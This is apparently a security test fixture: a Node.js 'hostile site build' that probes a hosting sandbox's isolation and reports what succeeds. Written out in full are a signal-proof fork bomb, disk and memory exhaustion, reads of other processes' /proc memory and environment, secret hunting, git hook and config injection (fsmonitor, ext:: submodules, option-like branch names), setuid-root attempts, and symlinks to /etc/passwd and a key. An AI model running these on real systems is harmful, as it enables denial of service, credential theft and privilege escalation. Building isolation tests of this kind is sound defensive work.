// A hostile site's build. It reports each attempt by name: "" where it came to nothing,
// else what it got.
import { spawn, execFileSync } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import net from "node:net";
import os from "node:os";
import path from "node:path";

const secrets = process.argv.slice(2);
const kind = fs.existsSync("kind") ? fs.readFileSync("kind", "utf8").trim() : "";

if (kind === "fork") {
	// Each in a session of its own, and none that ends when asked to.
	const bomb = 'trap "" TERM HUP INT; b() { setsid sh -c "$0" "$0" & b | b; }; b; while :; do sleep 60 & done';
	for (;;) {
		try {
			spawn("sh", ["-c", bomb, bomb], { detached: true, stdio: "ignore" }).on("error", () => {});
		} catch {}
		await new Promise((done) => setImmediate(done));
	}
}
if (kind === "fill") {
	const block = Buffer.alloc(1 << 20);
	const file = fs.openSync("/tmp/fill", "w");
	for (;;) fs.writeSync(file, block); // ends with ENOSPC
}
if (kind === "files") {
	// Each takes no byte of the disk, and memory that ends with no process.
	for (const dir of ["/dev/shm", "/tmp"]) {
		fs.mkdirSync(`${dir}/fill`);
		try {
			for (let i = 0; ; i++) fs.closeSync(fs.openSync(`${dir}/fill/${i}`, "w"));
		} catch (err) {
			if (dir === "/tmp") throw err; // ENOSPC
		}
	}
}
if (kind === "memory") {
	// Many, none of which has as much as containerboot.
	const hog = 'x=$(head -c 25000000 /dev/zero | tr "\\0" x); while :; do sleep 60; done';
	for (let i = 0; i < 12; i++) {
		spawn("sh", ["-c", hog], { detached: true, stdio: "ignore" }).on("error", () => {});
	}
	for (const all = []; ; ) all.push(Buffer.alloc(16 << 20, 1));
}

if (kind === "huge") {
	fs.mkdirSync("dist", { recursive: true });
	fs.writeFileSync("dist/index.html", "huge");
	fs.ftruncateSync(fs.openSync("dist/huge.bin", "w"), 2 ** 41); // more than any disk has
	process.exit(0);
}

const report = { uid: String(process.getuid()) };
async function attempt(name, how) {
	try {
		report[name] = (await how()) ?? "";
	} catch {
		report[name] = "";
	}
}
const found = (text) => secrets.find((s) => text.includes(s)) ?? "";
const wrote = (file) => {
	fs.writeFileSync(file, "planted");
	return `wrote ${file}`;
};

await attempt("own environment", () =>
	found(JSON.stringify(process.env)) || Object.keys(process.env).filter((n) => /TOKEN|SECRET|AWS|WEBORDINARY|SESSION_ID/.test(n)).join());
const processes = fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n) && n !== String(process.pid));
const others = processes.filter((n) => {
	try {
		return fs.statSync(`/proc/${n}`).uid !== process.getuid();
	} catch {
		return false;
	}
});
if (others.length < 2) report["others' processes are seen"] = "no: this test sees nothing";
for (const name of ["environ", "mem", "maps", "auxv", "io", "stack"]) {
	await attempt(`/proc/N/${name}`, () => {
		for (const n of others) {
			try {
				fs.readFileSync(`/proc/${n}/${name}`);
				return `read that of ${n}`;
			} catch {}
		}
	});
}
await attempt("/proc/N/cmdline", () => found(others.map((n) => {
	try { return fs.readFileSync(`/proc/${n}/cmdline`, "utf8"); } catch { return ""; }
}).join()));
await attempt("/proc/N/fd, cwd, root", () => others.flatMap((n) => ["fd", "cwd/", "root/"].map((d) => {
	try { return fs.readdirSync(`/proc/${n}/${d}`) && `${n}/${d}`; } catch { return ""; }
})).filter(Boolean).join());
await attempt("inherited descriptors", () => fs.readdirSync("/proc/self/fd").map((fd) => {
	try { return fs.readlinkSync(`/proc/self/fd/${fd}`); } catch { return ""; }
}).filter((l) => /^\/(session|cache)\//.test(l) && !l.startsWith("/session/workspace")).join());
await attempt("signals to others", () => others.filter((n) => {
	try { return process.kill(Number(n), 0); } catch { return false; }
}).join());
await attempt("all that can be read", () => {
	const all = (dir) => {
		let entries = [];
		try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch {}
		for (const e of entries) {
			const name = path.join(dir, e.name);
			if (e.isDirectory()) {
				const inside = all(name);
				if (inside) return inside;
			} else if (e.isFile()) {
				try { if (found(fs.readFileSync(name, "latin1"))) return name; } catch {}
			}
		}
		return "";
	};
	return ["/session", "/cache", "/tmp", "/run", "/etc", "/root"].map(all).filter(Boolean).join();
});
for (const file of [
	"/session/planted", "/session/git/planted", "/session/git/index", "/session/git/objects/planted", "/session/git/info/attributes", "/session/git/config", "/session/git/hooks/planted", "/session/builds/planted",
	"/session/tools/planted", "/cache/planted", "/cache/amelia/planted", "/cache/amelia/known_hosts", "/cache/amelia/dist/planted",
	"/cache/bramble/planted", "/repositories/planted", "/repositories/amelia.git/hooks/post-receive", "/usr/local/bin/planted", "/etc/planted",
]) {
	await attempt(`write ${file}`, () => wrote(file));
}
await attempt("another client's cache", () => {
	fs.mkdirSync("/cache/bramble", { recursive: true });
	return "made /cache/bramble";
});
await attempt("another workspace", () => {
	fs.renameSync("/session/workspace", "/session/planted");
	return "moved its own away";
});
for (const reusePort of [false, true]) {
	await attempt(`listen on the port, reusePort ${reusePort}`, () => new Promise((done, failed) => {
		const server = net.createServer();
		server.once("error", failed);
		server.listen({ port: 8080, host: "0.0.0.0", reusePort }, () => server.close(() => done("listened")));
	}));
}
const boot = (method, path, headers, body) => new Promise((done, failed) => {
	const request = http.request({ host: "127.0.0.1", port: 8080, method, path, headers, timeout: 20000 }, (answer) => {
		answer.resume();
		done(answer.statusCode < 400 ? `${path} answered ${answer.statusCode}` : "");
	});
	request.on("error", failed);
	request.end(body);
});
for (const token of ["", ...secrets]) {
	const headers = token ? { Authorization: `Bearer ${token}`, "X-Webordinary-Token": token } : {};
	for (const path of ["/.boot/claim", "/.boot/quiesce", "/.boot/commit", "/.boot/recall", "/api/save", "/api/rebuild"]) {
		await attempt(`POST ${path} with ${token ? "what it knows" : "nothing"}`, () => boot("POST", path, headers, JSON.stringify({ token, idleSeconds: 0 })));
	}
	await attempt(`GET the site with ${token ? "what it knows" : "nothing"}`, () => boot("GET", "/session/one/", headers));
}
await attempt("the last to be ended when memory runs out", () => {
	fs.writeFileSync("/proc/self/oom_score_adj", "-900");
	return "it is";
});
await attempt("others' nice value", () => others.filter((n) => {
	try { os.setPriority(Number(n), 19); return true; } catch { return false; }
}).join());
for (const [program, ...args] of [["mknod", "/tmp/device", "b", "254", "0"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["unshare", "--user", "--map-root-user", "true"], ["chroot", "/", "true"]]) {
	await attempt(program, () => {
		execFileSync(program, args, { stdio: "ignore" });
		return "it could";
	});
}
await attempt("another name of what it may not write", () => {
	fs.linkSync("/session/git/HEAD", "/session/workspace/HEAD");
	return "made one";
});
await attempt("become root", () => {
	process.setuid(0);
	return "is root";
});
await attempt("set-user-id", () => {
	fs.copyFileSync("/usr/bin/id", "/tmp/id");
	fs.chmodSync("/tmp/id", 0o4777);
	return execFileSync("/tmp/id", ["-u"], { encoding: "utf8" }).trim() === "0" ? "is root" : "";
});

// For what containerboot does next.
const plant = 'touch "/tmp/planted-$(id -u)"';
fs.mkdirSync(".git/hooks", { recursive: true });
for (const hook of ["pre-commit", "post-commit", "pre-push", "post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc"]) {
	fs.writeFileSync(`.git/hooks/${hook}`, `#!/bin/sh\n${plant}\n`, { mode: 0o755 });
}
fs.writeFileSync("planted.sh", `#!/bin/sh\n${plant}\n`, { mode: 0o755 });
fs.appendFileSync(".git/config", `
[core]
	fsmonitor = /session/workspace/planted.sh
	sshCommand = /session/workspace/planted.sh
	hooksPath = /session/workspace/.git/hooks
	pager = /session/workspace/planted.sh
	editor = /session/workspace/planted.sh
[filter "planted"]
	clean = /session/workspace/planted.sh
	smudge = /session/workspace/planted.sh
	required = true
[credential]
	helper = /session/workspace/planted.sh
[remote "origin"]
	receivepack = /session/workspace/planted.sh
	uploadpack = /session/workspace/planted.sh
[protocol "ext"]
	allow = always
[diff "planted"]
	textconv = /session/workspace/planted.sh
	command = /session/workspace/planted.sh
[merge "planted"]
	driver = /session/workspace/planted.sh
[include]
	path = /session/workspace/planted.config
[includeIf "gitdir:/"]
	path = /session/workspace/planted.config
[submodule "planted"]
	url = ext::/session/workspace/planted.sh
	update = !/session/workspace/planted.sh
	active = true
`);
fs.writeFileSync("planted.config", "[core]\n\tfsmonitor = /session/workspace/planted.sh\n\talternateRefsCommand = /session/workspace/planted.sh\n");
for (const dir of [process.env.HOME, `${process.env.HOME}/.config/git`]) {
	fs.mkdirSync(dir, { recursive: true });
	fs.copyFileSync("planted.config", `${dir}/${dir === process.env.HOME ? ".gitconfig" : "config"}`);
}
fs.writeFileSync(".gitattributes", "*.txt filter=planted diff=planted merge=planted\n");
fs.writeFileSync(".gitmodules", '[submodule "planted"]\n\tpath = module\n\turl = ext::/session/workspace/planted.sh\n');
const commit = execFileSync("git", ["-c", "safe.directory=*", "-c", "core.fsmonitor=false", "rev-parse", "HEAD"], { encoding: "utf8" });
fs.mkdirSync(".git/refs/replace", { recursive: true });
fs.writeFileSync(`.git/refs/replace/${commit.trim()}`, commit);
fs.mkdirSync(".git/info", { recursive: true });
fs.writeFileSync(".git/info/grafts", commit);
fs.writeFileSync(".git/info/attributes", "* filter=planted\n");
fs.mkdirSync(".git/refs/heads", { recursive: true });
for (const branch of ["--upload-pack=planted.sh", "-c", "--exec=touch"]) {
	fs.writeFileSync(`.git/refs/heads/${branch}`, commit);
}
fs.writeFileSync(".git/HEAD", "ref: refs/heads/--upload-pack=planted.sh\n");
fs.writeFileSync("work.txt", "work", { mode: 0o600 });
fs.writeFileSync("--work\nin two lines.txt", "work");
fs.rmSync("stolen.txt", { force: true });
fs.symlinkSync("/session/git.key", "stolen.txt");

// One that wants to stay.
spawn("sh", ["-c", 'trap "" TERM HUP; while :; do sleep 1; done'], { detached: true, stdio: "ignore" }).unref();

fs.mkdirSync("dist", { recursive: true });
fs.writeFileSync("dist/index.html", "hostile");
fs.writeFileSync("dist/report.json", JSON.stringify(report));
for (const [name, target] of Object.entries({
	"key.txt": "/session/git.key", "passwd.txt": "/etc/passwd", "environ.txt": "/proc/1/environ", "up": "../../git", "root": "/", "cache": "/cache",
})) {
	fs.rmSync(`dist/${name}`, { force: true });
	fs.symlinkSync(target, `dist/${name}`);
}
execFileSync("mkfifo", ["-m", "666", "dist/pipe.txt"]);
fs.ftruncateSync(fs.openSync("dist/hole.bin", "w"), 2 ** 26); // it is read once more, with all that can be
await new Promise((done) => net.createServer().listen("dist/socket.txt", done));

// More than anybody wants to read.
process.title = "containerboot";
execFileSync("sh", ["-c", "head -c 32M /dev/zero | tr '\\0' x; echo; yes noise | head -n 100000"], { stdio: "inherit" });
process.exit(0);
